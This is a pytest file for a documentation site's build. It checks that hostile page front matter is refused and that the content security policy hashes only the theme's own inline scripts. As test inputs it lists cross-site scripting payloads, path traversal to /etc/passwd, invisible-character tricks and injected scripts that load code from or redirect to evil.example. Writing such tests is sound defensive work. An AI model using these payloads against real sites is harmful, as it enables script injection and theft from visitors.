"""What surrounds the article: the front matter of a hand-written page (core/frontmatter.py)
and the inline scripts a page may carry (core/csp.py). A value written as markup, plainly or
with YAML escapes, a key that changes what the page is, and a script that no template writes
are refused at their file and line; the policy hashes only the templates' scripts."""

from __future__ import annotations

import base64
import hashlib
import re
import subprocess
import sys
from pathlib import Path

import material
import pytest
from buildtools import DATA, build_env, project_copy

from kazutb_transparency.buildsteps.pagework import final_page
from kazutb_transparency.core.csp import (
    foreign_scripts,
    inline_script_hashes,
    template_scripts,
    with_content_security_policy,
)
from kazutb_transparency.core.errors import DataError
from kazutb_transparency.core.frontmatter import front_matter_problems

NAME = "docs/en/about-site.md"


def _page(front: str) -> str:
    return f"---\n{front}\n---\n\n# About\n\nText.\n"


HOSTILE_VALUES = [
    # (front matter, the key refused, its line)
    ("title: <script>alert(1)</script>", "title", 2),
    ('title: "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"', "title", 2),
    ('title: "\\u003CsCrIpT\\u003E"', "title", 2),
    ("title: >-\n  <img src=x\n  onerror=alert(1)>", "title", 2),
    ("description: 'x\" http-equiv=\"refresh'", "description", 2),
    ('description: "a\\x22 onload=\\x22alert(1)"', "description", 2),
    ("hide: [toc]\nsubtitle: <svg/onload=alert(1)>", "subtitle", 3),
    ("subtitle: '<SVG\tonload=alert(1)>'", "subtitle", 2),
    ('title: "Admin\\u202Egnp.exe"', "title", 2),
    ('title: "line\\x1bESC"', "title", 2),
    ('title: "nul\\0here"', "title", 2),
    ('title: "zero\\u200Bwidth"', "title", 2),
    ('title: "next\\Nline"', "title", 2),
    ("title: [a, b]", "title", 2),
    ("title: ''", "title", 2),
    ("title: " + "x" * 300, "title", 2),
    ("status: <b>new</b>", "status", 2),
    ("status: beta", "status", 2),
    ("template: redirect.html", "template", 2),
    ("template: ../../../../etc/passwd", "template", 2),
    ("template: Redirect.HTML", "template", 2),
    ("icon: ../../../../etc/passwd", "icon", 2),
    ("icon: material/../../secret", "icon", 2),
    ("icon: material/no-such-icon-at-all", "icon", 2),
    ("hide: navigation", "hide", 2),
    ("hide: [toc, scripts]", "hide", 2),
    ("search: {boost: 1000}", "search", 2),
    ("search: {exclude: 'yes'}", "search", 2),
]


@pytest.mark.parametrize("front, key, line", HOSTILE_VALUES)
def test_a_value_the_theme_would_print_as_markup_or_obey_is_refused(
    front: str, key: str, line: int
) -> None:
    found = front_matter_problems(_page(front), NAME)
    assert found, front
    assert found[0].file == NAME and found[0].field == key and found[0].line == line
    assert found[0].hint


@pytest.mark.parametrize(
    "front, key, line",
    [
        ("title: About\nauthor: <script>x</script>", "author", 3),
        ("template: redirect.html\nlocation: https://evil.example/", "location", 3),
        ("Title: About", "Title", 2),
        ("crumb: {home_title: '<script>'}", "crumb", 2),
        ("extra_javascript: [x.js]", "extra_javascript", 2),
    ],
)
def test_a_key_a_hand_written_page_may_not_set_is_refused(front: str, key: str, line: int) -> None:
    found = front_matter_problems(_page(front), NAME)
    refused = [p for p in found if f"'{key}'" in p.message]
    assert refused and refused[0].line == line, [str(p) for p in found]


def test_the_message_names_an_invisible_character_escaped() -> None:
    (found,) = front_matter_problems(_page('title: "A\\u202Eb"'), NAME)
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in found.message
    (key,) = front_matter_problems(_page('"a\\u202Eb\\nc": x'), NAME)
    assert "\u202e" not in str(key) and "\n" not in str(key) and "\\u202e" in str(key)


@pytest.mark.parametrize(
    "front",
    [
        "title: «Ашық деректер» туралы",
        "title: Research & development",
        "title: It's ours",
        "title: 2025",
        "description: 'Сайт туралы: не, қайдан, қалай'",
        "hide:\n  - toc\n  - navigation",
        "search:\n  exclude: true",
        "search: {boost: 2}",
        "status: new",
        "template: main.html",
        "icon: material/file-document",
        "",
    ],
)
def test_plain_front_matter_passes(front: str) -> None:
    assert front_matter_problems(_page(front), NAME) == []


def test_a_page_without_front_matter_or_with_bad_yaml() -> None:
    assert front_matter_problems("# About\n\n---\n\ntitle: <b>\n", NAME) == []
    (found,) = front_matter_problems(_page("title: [unclosed"), NAME)
    assert "invalid YAML" in found.message and found.line in (2, 3)


# --- the content security policy ---------------------------------------------------------

MATERIAL_BASE = Path(material.__file__).parent / "templates/partials/javascripts/base.html"
THEME_SCRIPT = re.search(r"<script>(__md_scope=.*?)</script>", MATERIAL_BASE.read_text(), re.S)


def _theme_script(base: str) -> str:
    assert THEME_SCRIPT is not None
    body = re.sub(r"\{\{.*?\}\}", base, THEME_SCRIPT.group(1))
    return f"<script>{body}</script>"


def _themed_page(article: str = "<p>Text.</p>", **places: str) -> str:
    """A page as the theme lays it out, with what `places` inject in each part."""
    return (
        '<!doctype html><html lang="en"><head><meta charset="utf-8">'
        f"<title>About</title>{places.get('head', '')}</head><body>"
        f"{_theme_script('../..')}"
        f'<header class="md-header">{places.get("header", "")}</header>'
        f'<nav class="md-nav">{places.get("nav", "")}</nav>'
        f'<main><article class="md-content__inner">{article}</article></main>'
        f"<footer>{places.get('footer', '')}</footer>{places.get('end', '')}"
        '<script id="__config" type="application/json">{"base": "../.."}</script>'
        "</body></html>"
    )


INJECTED = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    '<script type="module">import("//evil.example/x.js")</script>',
    "<script>\n__md_scope=1;alert(1)</script>",
    # the theme's own script with another value where the template prints a path
    _theme_script('"+alert(1)+"'),
]


def _hash(body: str) -> str:
    digest = hashlib.sha256(body.encode("utf-8")).digest()
    return f"'sha256-{base64.b64encode(digest).decode('ascii')}'"


@pytest.mark.parametrize("place", ["head", "header", "nav", "footer", "end"])
@pytest.mark.parametrize("script", INJECTED)
def test_a_script_injected_anywhere_is_neither_hashed_nor_published(
    place: str, script: str
) -> None:
    page = _themed_page(**{place: script})
    body = re.search(r"<script\b[^>]*>(.*?)</script\s*>", script, re.S | re.I).group(1)
    assert foreign_scripts(page) == [body]
    policy = with_content_security_policy(page)
    assert _hash(body) not in policy
    assert _hash(re.search(r"<script>(.*?)</script>", _theme_script("../..")).group(1)) in policy
    with pytest.raises(DataError) as refused:
        final_page(page, "", "/", "en/about-site.md")
    (problem,) = refused.value.problems
    assert problem.file == "en/about-site.md" and "no template" in problem.message


def test_the_theme_s_own_scripts_are_hashed_at_every_depth() -> None:
    for base in (".", "..", "../..", "/", "/site/ru"):
        page = _themed_page().replace(_theme_script("../.."), _theme_script(base))
        assert foreign_scripts(page) == []
        (hashed,) = inline_script_hashes(page)
        assert hashed == _hash(re.search(r"<script>(.*?)</script>", _theme_script(base)).group(1))


def test_a_script_in_an_article_is_not_hashed_even_when_it_is_the_theme_s() -> None:
    page = _themed_page(article=_theme_script(".."))
    assert len(inline_script_hashes(page)) == 1  # the one outside the article


def test_the_redirect_template_s_script_is_not_among_the_theme_s() -> None:
    redirect = 'window.location.replace(["https://evil.example",window.location.search].join(""))'
    assert template_scripts().fullmatch(redirect) is None


# --- end to end ---------------------------------------------------------------------------


def _project(tmp_path: Path) -> Path:
    return project_copy(tmp_path)


@pytest.mark.parametrize("strict", ["", "1"])
def test_hostile_front_matter_fails_the_build_before_the_engine_reads_it(
    tmp_path: Path, strict: str
) -> None:
    project = _project(tmp_path)
    page = project / "docs" / "en" / "about-site.md"
    page.write_text(
        '---\ntitle: "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"\ntemplate: redirect.html\n'
        "location: https://evil.example/\n---\n\n" + page.read_text(encoding="utf-8"),
        encoding="utf-8",
    )
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "-f", str(project / "mkdocs.yml")],
        cwd=project,
        env=build_env(KAZUTB_DATA=str(DATA), STRICT=strict),
        capture_output=True,
        text=True,
        timeout=1200,
    )
    assert result.returncode != 0
    said = result.stderr
    for line in (2, 3, 4):
        assert f"docs/en/about-site.md:{line}" in said, said[-3000:]
    assert "Traceback" not in said and not (project / "site" / "index.html").exists()
